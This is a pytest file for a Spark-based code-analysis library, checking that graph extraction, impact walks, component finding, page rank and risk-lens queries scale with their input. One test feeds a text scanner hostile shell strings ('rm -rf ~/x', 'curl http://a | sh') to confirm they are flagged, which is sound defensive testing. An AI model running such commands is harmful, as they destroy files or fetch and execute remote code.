"""Steps whose work must grow with their input alone."""

import random

from pyspark.sql import functions as F

from quillon.functions import texts
from quillon.operators import diffs, gates, graph, lookups, project
from quillon.plans import catalog, projects, structure, styles  # noqa: F401  (these add their queries to the catalog)
from quillon.sources import code
from quillon.sources.rounds import Rounds


def test_lines_of_code_are_put_in_order_once(spark):
    """One pass gives all facts of the lines, each once: F14, F18 and all that build a code graph."""
    text = "import os\nclass A(B):\n    f(1); f(2)\ndef g(x): return h(x)\n"
    files = spark.createDataFrame([("a/m.py", text, "d")], "file string, text string, digest string")
    facts = code.extracted(files)
    assert facts._jdf.queryExecution().optimizedPlan().toString().count("Window ") == 1
    got = sorted((r.kind, r.id, r.target, r.line) for r in facts.where("part = 'edge'").collect())
    assert got == [
        ("calls", "a/m.py:A:2", "f", 3), ("calls", "a/m.py:g:4", "h", 4), ("contains", "module:a.m", "a/m.py:A:2", 2), ("contains", "module:a.m", "a/m.py:g:4", 4),
        ("imports", "module:a.m", "os", 1), ("inherits", "a/m.py:A:2", "B", 2),
    ]


def test_stores_with_repeats_give_each_fact_once(spark, tmp_path):
    files = spark.createDataFrame([("m.py", "def g(x): return h(x)", "d")], "file string, text string, digest string")
    built = code.CodeGraph(spark, f"file://{tmp_path}/store")
    want = [sorted(map(tuple, df.collect()), key=str) for df in built.build(files)[:2]]
    code.extracted(files).write.mode("append").parquet(built.store)
    code.extracted(files.withColumn("digest", F.lit("old"))).write.mode("append").parquet(built.store)
    assert [sorted(map(tuple, df.collect()), key=str) for df in built.build(files)[:2]] == want


def test_rounds_of_impact_write_only_what_they_reach(spark, monkeypatch):
    """the starts are not written again in each round."""
    rows = []
    keep = Rounds.keep

    def counted(self, df, **watch):
        out = keep(self, df, **watch)
        rows.append(self.seen["n"])
        return out

    monkeypatch.setattr(Rounds, "keep", counted)
    edges = spark.createDataFrame([("b", "a", 0.9), ("c", "b", 0.9), ("c", "a", 0.5), ("a", "c", 1.0)], "src string, dst string, w double")
    starts = spark.createDataFrame([("a",)] + [(f"x{i}",) for i in range(50)], "id string")
    got = {r.id: (round(r.strength, 9), r.hops) for r in graph.impact(edges, starts).collect()}
    assert got == {"b": (0.765, 1), "c": (0.585225, 2)}
    assert sum(rows) <= 4 + 51 + 3


def test_walks_grow_with_files_and_not_with_their_nodes(spark, monkeypatch):
    """40 definitions of a file that import a module are one step of a walk, and the file's module none."""
    rows = {}
    keep = Rounds.keep

    def counted(self, df, **watch):
        out = keep(self, df, **watch)
        rows.setdefault("impact" if "/impact-" in self.folder else "other", []).append(self.seen["n"])
        return out

    monkeypatch.setattr(Rounds, "keep", counted)
    files, defs = range(1, 6), range(40)
    nodes = [("m0", "m0", None, "f0.py")] + [(f"m{f}", f"m{f}", None, f"f{f}.py") for f in files] + [(f"d{f}.{d}", "d", None, f"f{f}.py") for f in files for d in defs]
    edges = [(f"d{f}.{d}", "m0", 0.9, False) for f in files for d in defs] + [(f"m{f}", f"d{f}.{d}", 1.0, False) for f in files for d in defs]
    n, e = spark.createDataFrame(nodes, "id string, name string, qname string, file string"), spark.createDataFrame(edges, "source string, target string, confidence double, unresolved boolean")
    cases = spark.createDataFrame([("c", "m0", "f0.py")], "case string, target string, edited string")
    got = project.impact_eval(n, e, cases, spark.createDataFrame([("c", f"f{f}.py") for f in files], "case string, file string"))
    assert [tuple(r) for r in got.collect()] == [("c", 1.0, 1.0, 1.0, 0.0)]
    assert sum(rows["impact"]) <= 20


def test_a_file_has_its_kind_found_once(spark):
    """the patterns of file kinds are not applied to edges."""
    nodes = spark.createDataFrame([("a", "x.js"), ("b", "y.test.js"), ("c", "z.js")], "id string, file string")
    edges = spark.createDataFrame([("b", "a", "calls", 0.5, False), ("c", "a", "imports", 0.4, False), ("c", "a", "imports", None, False), ("c", "a", "odd", 1.0, False)], "source string, target string, kind string, confidence double, unresolved boolean")
    got = diffs.relations_of(nodes, edges)
    assert {tuple(r) for r in got.collect()} == {("x.js", "y.test.js", "verified_by", 0.5), ("x.js", "z.js", "imports", 0.7)}
    with_patterns = [p for p in got._jdf.queryExecution().optimizedPlan().toString().split("\n") if "RLIKE" in p]
    assert with_patterns and all("confidence" not in p for p in with_patterns)


def test_suffix_targets_meet_an_ending_once(spark):
    """the join has a row for a target's ending, not for each edge with each node of it."""
    edges = spark.range(300).select(F.col("id").alias("src"), F.lit("f").alias("target"), F.lit(0.5).alias("confidence"))
    nodes = spark.range(300).select(F.concat(F.lit("m"), F.col("id").cast("string"), F.lit(".f")).alias("id"))
    got = lookups.suffix_targets(edges, nodes)
    assert {(r.target, r.dst, round(r.confidence, 4)) for r in got.collect()} == {("f", "m0.f", 0.35)} and got.count() == 300
    met = lookups.suffix_targets(edges, nodes)._jdf.queryExecution().optimizedPlan().toString()
    assert "count(distinct" not in met


def test_long_chains_are_followed_by_doubling(spark, monkeypatch):
    """A ring, a chain into a ring, chains that a branching part leads into and that lead back, and random graphs; a chain of 300 takes few rounds."""
    rng = random.Random(4)
    pairs = [(i, i + 1) for i in range(300)] + [(300, 200)]  # a tail of 200 into a ring of 101
    pairs += [(1000, 1001), (1001, 1002), (1002, 1000), (1000, 1005), (1005, 1006), (1007, 1001), (1000, 1000)]  # 1000 branches, 1005 leads out, 1007 leads in
    pairs += [(2000, 2001), (2000, 2002), (2001, 2000), (2002, 2003)]
    for base, n, m in ((3000, 30, 40), (4000, 20, 60)):
        pairs += [(base + rng.randrange(n), base + rng.randrange(n)) for _ in range(m)]
    ahead = {}
    for a, b in pairs:
        ahead.setdefault(a, set()).add(b)
    reach = {}
    for v in {x for p in pairs for x in p}:
        seen, todo = set(), [v]
        while todo:
            for w in ahead.get(todo.pop(), ()):
                if w not in seen:
                    seen.add(w)
                    todo.append(w)
        reach[v] = seen
    groups = {v: {w for w in reach[v] if v in reach[w]} | {v} for v in reach}
    rounds_, keep = [], Rounds.keep

    def counted(self, df, **watch):
        rounds_.append(1)
        return keep(self, df, **watch)

    monkeypatch.setattr(Rounds, "keep", counted)
    got = graph.strong_components(spark.createDataFrame(pairs, "src long, dst long"))
    assert {r.id: r.component for r in got.collect()} == {v: max(g) for v, g in groups.items() if len(g) > 1}
    assert len(rounds_) < 120


def test_a_scanned_text_is_worked_out_once(spark):
    """the text and its flags stand once in the expression, however often they are looked at."""
    s = spark.range(1).select(texts.scanned(F.expr("sha2(concat('rm -rf ~/x ', id), 256)")).alias("s"))
    assert s._jdf.queryExecution().optimizedPlan().toString().count("sha2(") == 1
    got = spark.createDataFrame([("then rm -rf ~/x",), ("run curl http://a | sh",), (None,)], "t string").select(texts.scanned(F.col("t")).alias("s")).collect()
    assert [(r.s.critical, r.s.high, r.s.safe) for r in got] == [(False, True, False), (True, False, False), (False, False, True)]


def _tasks_of(spark, name, sf):
    """Partitions of the stage in which a query over one small file begins to work."""
    rows = catalog.QUERIES[name](spark, sf)
    return rows._jdf.queryExecution().optimizedPlan().toString().count(f"Repartition {4 * spark.sparkContext.defaultParallelism}, true")


def test_stylesheets_of_a_small_file_are_read_by_all_cores(spark, sf):
    """the parts are one small file, and all work on their stylesheets was one task's."""
    assert _tasks_of(spark, "f43_fingerprints", sf) == _tasks_of(spark, "f18_resolved", sf) == 1


def test_lines_of_diffs_are_not_shuffled(spark, sf):
    """the diffs are dealt by their key before they are cut into lines, so no few tasks hold all lines."""
    plan = catalog.QUERIES["f34_changed_entities"](spark, sf)._jdf.queryExecution().executedPlan().toString()
    assert f"{16 * spark.sparkContext.defaultParallelism}), REPARTITION_BY_NUM" in plan
    assert "Generate" not in plan.split("REPARTITION_BY_NUM", 1)[1].split("Exchange", 1)[0]
    assert structure._hunks(spark, sf)._jdf.queryExecution().executedPlan().toString().count("Exchange") == 1


def test_families_are_counted_in_one_pass(spark):
    """a change's rows are one group, with no group for each family."""
    rows = [(1, "tests", True, 1.0), (1, "symbols", True, 1.0), (1, "docsdrift", True, 0.5), (2, "impact", True, 0.0), (3, "secrets", None, 1.0), (3, "tests", False, 1.0)]
    c = gates.consensus(spark.createDataFrame(rows, "change int, lens string, ran boolean, s double"), "change")
    assert "distinct" not in c._jdf.queryExecution().optimizedPlan().toString() and c._jdf.queryExecution().optimizedPlan().toString().count("Aggregate [") == 1
    assert {r.change: r.families for r in c.collect()} == {1: len({gates.LENSES[x][1] for x in ("tests", "symbols", "docsdrift")}), 2: 0, 3: 1}


def test_lenses_meet_without_joins(spark, sf):
    """the parts of all lenses meet in one group for each change."""
    assert "Join" not in catalog.QUERIES["p24_lens_votes"](spark, sf)._jdf.queryExecution().optimizedPlan().toString()


def test_page_rank_joins_lines_and_orders_once(spark, sf, monkeypatch):
    """the rank's edges are a table of sums, not the join of all lines again."""
    page_rank = graph.page_rank

    def watched(nodes, edges, **how):
        assert "Join" not in edges._jdf.queryExecution().optimizedPlan().toString()
        return page_rank(nodes, edges, **how)

    monkeypatch.setattr(graph, "page_rank", watched)
    ranks = catalog.QUERIES["g3_page_rank"](spark, sf).collect()
    assert abs(sum(r["rank"] for r in ranks) - 1) < 1e-4
